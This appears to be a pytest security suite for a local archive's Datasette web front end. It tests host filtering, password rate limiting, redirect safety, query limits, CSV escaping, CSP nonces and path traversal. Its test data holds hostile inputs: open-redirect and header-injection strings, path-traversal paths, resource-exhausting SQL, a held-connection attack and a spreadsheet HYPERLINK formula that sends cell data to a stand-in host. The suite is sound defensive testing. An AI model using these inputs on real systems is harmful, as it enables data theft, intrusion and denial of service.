"""What somebody who means harm asks of the web side, and what a hostile text tries there."""

from __future__ import annotations

import asyncio
import base64
import csv
import http.client
import io
import json
import re
import sqlite3
import time
from collections.abc import Mapping
from typing import Any
from urllib.parse import quote, urlencode, urlsplit

import httpx
import pytest
from playwright.sync_api import ConsoleMessage, Page, expect

from archive.errors import ArchiveError
from archive.web import limits
from archive.web.gate import LOOPBACK_NAMES, Gate, host_of, with_headers
from archive.web.limits import LARGEST_RESULT, bound, time_limit
from archive.web.serve import datasette, serve
from tests.web.conftest import Served, add_article

PASSWORD = "correct horse battery"


def ask(served: Served, target: str, headers: Mapping[str, str] | None = None) -> tuple[int, dict[str, str], bytes]:
    """GET a target as it is, without a client that tidies it, and follow nothing."""
    connection = http.client.HTTPConnection(urlsplit(served.url).netloc, timeout=30)
    given = dict(headers or {})
    connection.putrequest("GET", target, skip_host="Host" in given, skip_accept_encoding=True)
    for name, value in given.items():
        connection.putheader(name, value)
    connection.endheaders()
    answer = connection.getresponse()
    try:
        return answer.status, {name.lower(): value for name, value in answer.getheaders()}, answer.read()
    finally:
        connection.close()


# -- who is let in ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["localhost", "127.0.0.1", "[::1]", "LocalHost", "localhost."])
def test_our_own_names_are_answered(served: Served, name: str) -> None:
    port = urlsplit(served.url).port
    assert ask(served, "/", {"Host": f"{name}:{port}"})[0] == 200
    assert ask(served, "/", {"Host": name})[0] == 200


@pytest.mark.parametrize("name", ["elsewhere.example", "localhost.elsewhere.example", "127.0.0.1.elsewhere.example", "10.0.0.1", "@", "x@localhost", ""])  # fmt: skip
def test_a_name_that_was_pointed_here_is_refused(served: Served, name: str) -> None:
    status, headers, body = ask(served, "/archive/articles.json", {"Host": name})
    assert status == 400
    assert b"ferry" not in body
    assert headers["x-content-type-options"] == "nosniff"


@pytest.mark.parametrize(("mode", "status"), [("navigate", 200), ("no-cors", 403), ("cors", 403)])
def test_other_sites_may_link_and_not_fetch(served: Served, mode: str, status: int) -> None:
    headers = {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": mode}
    answered, given, _ = ask(served, "/archive/articles.json", headers)
    assert answered == status
    assert given["cross-origin-resource-policy"] == "same-origin"
    assert "access-control-allow-origin" not in given


def test_hosts_of_headers() -> None:
    assert host_of(["[::1]:8001"]) == "::1"
    assert host_of(["Localhost:8001"]) == "localhost"
    assert host_of([]) == host_of(["localhost", "elsewhere.example"]) == ""


class Door:
    """A gate before an application that says "in", asked without a server."""

    def __init__(self, password: str | None = PASSWORD) -> None:
        async def inside(scope: Any, receive: Any, send: Any) -> None:
            await send({"type": "http.response.start", "status": 200, "headers": []})
            await send({"type": "http.response.body", "body": b"in"})

        self.gate = Gate(with_headers(inside), LOOPBACK_NAMES, password)

    async def ask(self, **headers: str) -> tuple[int, dict[str, str]]:
        """One request; gives status and headers."""
        events: list[Any] = []

        async def send(event: Any) -> None:
            events.append(event)

        raw = [(name.lower().encode(), value.encode()) for name, value in ({"Host": "localhost"} | headers).items()]
        await self.gate({"type": "http", "method": "GET", "path": "/", "headers": raw}, None, send)  # type: ignore[arg-type]
        return events[0]["status"], {key.decode(): value.decode() for key, value in events[0]["headers"]}


def basic(password: str, user: str = "reader") -> str:
    return "Basic " + base64.b64encode(f"{user}:{password}".encode()).decode()


@pytest.mark.parametrize(
    "given",
    ["", "Basic", "Basic !!!", "Basic " + "A" * 999, basic(""), basic(PASSWORD + " "), basic(PASSWORD[:-1]), basic("é"), "Bearer " + PASSWORD],
)  # fmt: skip
def test_without_the_password_nothing_is_shown(given: str) -> None:
    status, headers = asyncio.run(Door().ask(Authorization=given))
    assert status == 401
    assert headers["www-authenticate"].startswith("Basic ")
    assert "set-cookie" not in headers


def test_the_password_opens_and_is_asked_for_once() -> None:
    async def job() -> None:
        door = Door()
        status, headers = await door.ask(Authorization=basic(PASSWORD))
        assert status == 200
        cookie = headers["set-cookie"]
        assert "HttpOnly" in cookie and "SameSite=Strict" in cookie
        assert (await door.ask(Cookie=f"theme=dark; {cookie.partition(';')[0]}"))[0] == 200
        assert (await door.ask(Cookie=cookie.partition(";")[0] + "x"))[0] == 401
        assert (await door.ask(Cookie="kiosque_session="))[0] == 401

    asyncio.run(job())


def test_guesses_wait_for_each_other_and_a_session_does_not(monkeypatch: pytest.MonkeyPatch) -> None:
    waits: list[float] = []
    rest = asyncio.sleep

    async def sleep(seconds: float) -> None:
        waits.append(seconds)
        await rest(0.01)

    async def job() -> None:
        door = Door()
        _, headers = await door.ask(Authorization=basic(PASSWORD))
        cookie = headers["set-cookie"].partition(";")[0]
        monkeypatch.setattr("archive.web.gate.asyncio.sleep", sleep)
        guesses = [door.ask(Authorization=basic(f"guess number {number}")) for number in range(40)]
        answers = [status for status, _ in await asyncio.gather(*guesses)]
        assert answers.count(401) == 9
        assert answers.count(429) == 31
        assert waits == sorted(waits)
        assert len(waits) == 8  # all but the first wait, one after another
        for _ in range(5):
            await door.ask(Authorization=basic("one more guess"))
        assert waits[-1] == 4.0
        assert (await door.ask(Cookie=cookie))[0] == 200
        waits.clear()
        assert (await door.ask(Authorization=basic(PASSWORD)))[0] == 200
        assert waits, "the right password must not be told from a wrong one by its speed"

    asyncio.run(job())


def test_a_short_password_is_refused(served: Served) -> None:
    with pytest.raises(ArchiveError, match="too short"):
        serve(served.database.parent, port=0, password="1234567")


# -- where an answer leads -------------------------------------------------------------------------------------------------

OPEN_REDIRECTS = (
    "//elsewhere.example/", "///elsewhere.example/", "/\\elsewhere.example/", "//elsewhere.example/%2e%2e/", "/%5celsewhere.example/",
    "/%2felsewhere.example/", "/\t/elsewhere.example/", "//elsewhere.example/archive/articles/?_filter_column=id&_filter_op=exact",
    "/archive/articles?_filter_column=title&_filter_op=exact&_filter_value=//elsewhere.example", "/archive/articles/?_next=//elsewhere.example",
    "http://elsewhere.example/", "/archive/articles.jsono?x=//elsewhere.example", "/-/logout", "/archive/articles?_sort_by_desc=on&_sort=id",
)  # fmt: skip


@pytest.mark.parametrize("target", OPEN_REDIRECTS)
def test_no_redirect_leads_away(served: Served, target: str) -> None:
    status, headers, _ = ask(served, target.replace("\t", "%09"))
    assert status < 500
    location = headers.get("location", "/")
    assert location.startswith("/"), location
    assert not location.startswith(("//", "/\\")), location


@pytest.mark.parametrize(
    "given",
    [b"//elsewhere.example", b"/\\elsewhere.example", b"https://elsewhere.example/", b"javascript:alert(1)", b"/x\r\nSet-Cookie: a=b", b""],
)  # fmt: skip
def test_a_location_elsewhere_is_taken_home(given: bytes) -> None:
    async def job() -> bytes:
        events: list[Any] = []

        async def send(event: Any) -> None:
            events.append(event)

        async def inside(scope: Any, receive: Any, send: Any) -> None:
            await send({"type": "http.response.start", "status": 302, "headers": [(b"Location", given)]})

        await with_headers(inside)({"type": "http", "method": "GET", "path": "/", "headers": []}, None, send)  # type: ignore[arg-type]
        return dict(events[0]["headers"])[b"Location"]  # type: ignore[no-any-return]

    assert asyncio.run(job()) == b"/"


@pytest.mark.parametrize("path", ["/-/databases", "/-/databases.json", "/-/threads.json", "/-/plugins", "/-/versions.json", "/-/patterns", "/-/metadata", "/-/actor.json", "/-/allow-debug", "/-/messages", "/_internal", "/-/auth-token?token=x"])  # fmt: skip
def test_what_datasette_says_of_itself_is_not_shown(served: Served, path: str) -> None:
    status, _, body = ask(served, path)
    assert status in (403, 404)
    assert str(served.database).encode() not in body


# -- what a query may cost -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("operator", ["like", "glob", "notlike", "contains", "endswith"])
def test_patterns_end(served: Served, operator: str) -> None:
    star = "*" if operator == "glob" else "%"
    with sqlite3.connect(served.database) as writer:
        number = add_article(writer, 1, "https://harbour.example/a", "a" * 400, "a" * 20_000, "Sea", "2023-01-01")
        try:
            for column in ("title", "text"):
                query = urlencode({f"{column}__{operator}": f"{star}a" * 60 + f"{star}b", "_size": 1})
                status, _, _ = ask(served, f"/archive/articles.json?{query}")
                assert status == 200
        finally:
            writer.execute("DELETE FROM article_urls WHERE article_id = ?", [number])
            writer.execute("DELETE FROM articles WHERE id = ?", [number])


LIKENESSES = (
    ("like", "%A_c%", "xxabcxx"), ("like", "a%a", "a"), ("like", "", ""), ("like", "%", ""), ("like", "É", "é"), ("like", "a\n%", "A\nb"),
    ("glob", "*[a-c]?", "xbz"), ("glob", "[^a]*", "abc"), ("glob", "[]]", "]"), ("glob", "[", "["), ("glob", "[]", "]"), ("glob", "[z-a]", "b"),
    ("glob", "A*", "abc"), ("glob", "[a-]", "-"), ("glob", "*a*a", "aa"), ("glob", "*aa*a", "aa"), ("like", "_%_", "é"),
)  # fmt: skip


@pytest.mark.parametrize(("operator", "pattern", "text"), LIKENESSES)
def test_patterns_match_as_in_sqlite(operator: str, pattern: str, text: str) -> None:
    plain, bounded = sqlite3.connect(":memory:"), sqlite3.connect(":memory:")
    bound(bounded)
    statement = f"SELECT ? {operator} ?"
    assert (
        tuple(bounded.execute(statement, [text, pattern]).fetchone())
        == plain.execute(statement, [text, pattern]).fetchone()
    )
    assert bounded.execute("SELECT 'a_c' LIKE 'a!_c' ESCAPE '!', 'abc' LIKE 'a!_c' ESCAPE '!', NULL LIKE 'a'").fetchone()[:] == (1, 0, None)  # fmt: skip
    plain.close()
    bounded.close()


LONG = (
    "t(x) as (select 'aaaaaaaaaa' union all select x || x from t where length(x) < 1000000)"  # to 1.3 million letters
)


@pytest.mark.parametrize(
    "sql",
    [
        "select zeroblob(1000000000)", "select printf('%.*c', 1000000000, 'x')", "select hex(zeroblob(15000000))",
        "LONG, n(i) as (select 1 union all select i + 1 from n limit 900) select max(x) from t, n group by i",
        "LONG select group_concat(a.x) from (select max(x) x from t) a, pragma_table_info('articles')",
        "LONG, m as (select max(x) x from t) select sum(instr(x, substr(x, 2) || 'b')) from m, t, t u, t v",
        "LONG, m as (select max(x) x from t) select length(replace(x, 'a', x)) from m",
    ],
    ids=["blob", "text", "hex", "rows", "joined", "search", "change"],
)  # fmt: skip
def test_results_are_bounded(served: Served, sql: str) -> None:
    status, _, body = ask(served, "/archive.json?" + urlencode({"sql": sql.replace("LONG", LONG)}))
    assert status == 400, body[:300]
    assert len(body) < LARGEST_RESULT


@pytest.mark.parametrize(
    "address", ["/archive.json?sql=select+1", "/archive/articles.json?_where=1", "/archive.csv?sql=select+1"]
)
def test_sql_is_not_for_strangers(served: Served, address: str) -> None:
    async def job() -> tuple[int, int]:
        app = datasette(served.database, sql=False).app()
        async with httpx.AsyncClient(transport=httpx.ASGITransport(app), base_url="http://archive.example") as client:
            table = await client.get("/search.json?q=ferry")
            return (await client.get(address)).status_code, table.status_code

    status, table = asyncio.run(job())
    assert status == 403 or "_where" in address
    assert status != 500
    assert table == 200


# -- what a hostile text tries ---------------------------------------------------------------------------------------------

FORMULAS = (
    '=HYPERLINK("https://elsewhere.example/?"&A1)',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
)


@pytest.mark.parametrize("address", ["/archive/articles.csv?_labels=on", "/archive/articles.csv?_stream=on", "/archive.csv?sql=select+*+from+articles", "/search.csv?q=formula"])  # fmt: skip
def test_csv_holds_no_formula(served: Served, address: str) -> None:
    with sqlite3.connect(served.database) as writer:
        numbers = [
            add_article(writer, 1, f"https://harbour.example/f{at}", text, f"{text} formula", text, "2022-01-01")
            for at, text in enumerate(FORMULAS)
        ]
        try:
            status, headers, body = ask(served, address)
            assert status == 200
            assert headers["content-type"].startswith("text/plain") or "attachment" in headers["content-disposition"]
            rows = list(csv.DictReader(io.StringIO(body.decode(), newline="")))
            titles = {row["title"] for row in rows if str(row["id"]) in set(map(str, numbers))}
            assert titles == {f"'{text}" for text in FORMULAS}
            for row in rows:
                for cell in row.values():
                    assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "＝")), row
            _, _, asked = ask(served, f"/archive/articles/{numbers[0]}.json?_shape=objects")
            assert json.loads(asked)["rows"][0]["title"] == FORMULAS[0], "JSON has the text as it is"
        finally:
            for number in numbers:
                writer.execute("DELETE FROM article_urls WHERE article_id = ?", [number])
                writer.execute("DELETE FROM articles WHERE id = ?", [number])


PAGES = (
    "", "archive", "archive/articles", "archive/articles/5", "?q=quotes", "archive/latest", "archive/sources",
    "archive/article_urls", "archive?sql=select+*+from+articles", "archive?sql=select+nothing", "archive/nothing",
)  # fmt: skip


@pytest.mark.parametrize("path", PAGES)
def test_pages_work_under_their_policy(page: Page, path: str) -> None:
    said: list[str] = []

    def note(message: ConsoleMessage) -> None:
        # the editor's resizer brings a style sheet of its own, in whose place there are rules in ours
        if "Content Security" in message.text and "cm-resize" not in message.location["url"]:
            said.append(message.text)

    page.on("console", note)
    answer = page.goto(path)
    page.wait_for_load_state("networkidle")
    assert answer is not None
    policy = answer.headers["content-security-policy"]
    assert "unsafe" not in policy
    assert said == []
    inline = re.findall(r"<(?:script|style)(?![^>]*\ssrc=)([^>]*)>", answer.text())
    assert all(
        f"'nonce-{found[1]}'" in policy for found in (re.search(r'nonce="([^"]+)"', one) for one in inline) if found
    )
    assert all("nonce=" in one for one in inline)


def test_nonces_are_used_once(served: Served) -> None:
    policies = {ask(served, "/")[1]["content-security-policy"] for _ in range(3)}
    assert len(policies) == 3


def test_sql_can_be_written_and_a_column_sorted(page: Page) -> None:
    """What Datasette's own scripts do: the editor, and the menu of a column."""
    page.goto("archive?sql=select+id,+title+from+articles")
    expect(page.locator(".CodeMirror")).to_be_visible()
    page.goto("archive/sources")
    page.locator("th.col-slug .dropdown-menu-icon").click()
    page.get_by_role("link", name="Sort descending").click()
    page.wait_for_url("**_sort_desc=slug**")


def test_a_text_is_held_in_its_own_direction(page: Page, served: Served) -> None:
    """U+202E turns round what follows it: it stays in the text as published, and its effect within it."""
    title = "A \u202eegats fo gnirb\u2066 title"
    with sqlite3.connect(served.database) as writer:
        number = add_article(writer, 1, "https://harbour.example/bidi", title, "Text.", "\u202eSea", "2021-01-01")
        try:
            page.goto("?q=" + quote("egats"))
            heading = page.locator(".results h2", has_text="egats")
            expect(heading).to_have_css("display", "block")  # an override ends with its paragraph (UAX 9, X9)
            expect(page.locator(".origin bdi", has_text="Sea")).to_have_css("unicode-bidi", "isolate")
            page.goto(f"archive/articles/{number}")
            expect(page.locator("h1")).to_have_text(title)
        finally:
            writer.execute("DELETE FROM article_urls WHERE article_id = ?", [number])
            writer.execute("DELETE FROM articles WHERE id = ?", [number])


@pytest.mark.parametrize("path", ["/raw/2026/11/x.warc.gz", "/archive/captures/1/x", "/../archive.db", "/kiosque/../../store.py", "/kiosque/%2e%2e/%2e%2e/store.py", "/kiosque//etc/hostname"])  # fmt: skip
def test_no_file_and_no_archived_page_is_served(served: Served, path: str) -> None:
    status, headers, body = ask(served, path)
    assert status in (302, 400, 403, 404)
    assert b"class Archive" not in body
    assert "text/html" not in headers.get("content-type", "") or b"<html" in body or body.startswith(b"404: ")


def test_stored_html_is_data(served: Served) -> None:
    """A text is escaped in a page, and what is not a page cannot be taken for one."""
    for address in ("/archive/articles/5.json", "/archive/articles.csv", "/archive.json?sql=select+text+from+articles"):
        _, headers, _ = ask(served, address)
        assert headers["content-type"].split(";")[0] in ("application/json", "text/plain")
        assert headers["x-content-type-options"] == "nosniff"


def test_a_slow_client_holds_nobody_up(served: Served) -> None:
    """Forty clients that never finish their request."""
    netloc = urlsplit(served.url)
    import socket

    held = [socket.create_connection((netloc.hostname, netloc.port)) for _ in range(40)]  # type: ignore[arg-type]
    try:
        for one in held:
            one.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")
        time.sleep(0.2)
        assert ask(served, "/archive/articles.json?_size=1")[0] == 200
    finally:
        for one in held:
            one.close()


FOREVER = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT count(*) FROM n"


def test_a_query_that_works_too_long_is_interrupted() -> None:
    with sqlite3.connect(":memory:") as conn, time_limit(conn, 0.05), pytest.raises(sqlite3.OperationalError) as error:
        conn.execute(FOREVER)
    assert error.value.sqlite_errorname == "SQLITE_INTERRUPT"


def test_a_query_that_waits_is_given_longer_and_not_for_ever(monkeypatch: pytest.MonkeyPatch) -> None:
    limit, waits = 0.2, []

    def wait() -> int:
        waits.append(time.sleep(limit / 400))
        return 1

    asked = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + wait() FROM n LIMIT 2000) SELECT count(*) FROM n"
    with sqlite3.connect(":memory:") as conn:
        conn.create_function("wait", 0, wait)
        monkeypatch.setattr(limits, "STALLED", 10_000)
        with time_limit(conn, limit):
            assert conn.execute(asked).fetchone() == (2000,)  # five times the limit, nearly all of it asleep
        waits.clear()
        monkeypatch.setattr(limits, "STALLED", 1)
        with time_limit(conn, limit), pytest.raises(sqlite3.OperationalError):
            conn.execute(asked)
    assert len(waits) < 1999
